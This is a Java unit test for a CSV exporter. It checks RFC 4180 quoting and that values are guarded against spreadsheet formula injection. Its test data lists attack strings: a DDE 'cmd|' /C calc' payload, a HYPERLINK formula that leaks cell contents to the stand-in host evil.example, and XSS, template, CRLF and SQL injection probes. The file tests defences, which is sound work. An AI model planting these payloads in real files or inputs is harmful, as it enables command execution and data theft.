package io.belfry.realtimepush;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class CsvTest {
    private static final Pattern FORMULA =
            Pattern.compile("[=+\\-@\\t\\r\\n\\x00\\uFF1D\\uFF0B\\uFF0D\\uFF20].*", Pattern.DOTALL);

    @ParameterizedTest
    @MethodSource("values")
    void whatIsExportedIsReadBackEqualAndIsNoFormula(String value) {
        List<List<String>> read = CsvReader.read(Csv.line(List.of("before", value, "after")));

        assertThat(read).hasSize(1);
        assertThat(read.get(0)).hasSize(3);
        assertThat(read.get(0).get(1)).doesNotMatch(FORMULA);
        assertThat(CsvReader.withoutGuard(read.get(0).get(1))).isEqualTo(value);
    }

    @Test
    void everyFieldStandsInQuotesAndEveryLineEndsAsRfc4180Says() {
        assertThat(Csv.line(List.of("a", "", "say \"hi\"")))
                .isEqualTo("\"a\",\"\",\"say \"\"hi\"\"\"\r\n");
    }

    @Test
    void aTelephoneNumberIsNoFormula() {
        assertThat(Csv.line(List.of("+390255512345", "+39 02", "+1+1", "+39\n")))
                .isEqualTo("\"+390255512345\",\"'+39 02\",\"'+1+1\",\"'+39\n\"\r\n");
    }

    static Stream<String> values() {
        Stream<String> first =
                Stream.of(
                        "=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uFF1D", "\uFF0B", "\uFF0D",
                        "\uFF20");
        Stream<String> formulas =
                first.flatMap(
                        sign ->
                                Stream.of(
                                        sign,
                                        sign + "1+1",
                                        sign + "cmd|' /C calc'!A0",
                                        "'" + sign + "x",
                                        "''" + sign));
        Stream<String> plain =
                Stream.of(
                        "",
                        " ",
                        "+39 02 5551234",
                        "'+390255512345",
                        "-12",
                        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                        "=1+1\",\"=2+2",
                        "a,b;c\td",
                        "a\r\nb",
                        "\"",
                        "\"\"\",=1",
                        "'s-Hertogenbosch",
                        "'quoted'",
                        "<script>alert(1)</script>",
                        "Łukasz Żółć 日本語 🦄 \u202Eevil",
                        "${SHELL(id)} {{7*7}} %0d%0aEvent: Hangup",
                        "Robert'); DROP TABLE calls;--");
        return Stream.concat(formulas, plain);
    }
}
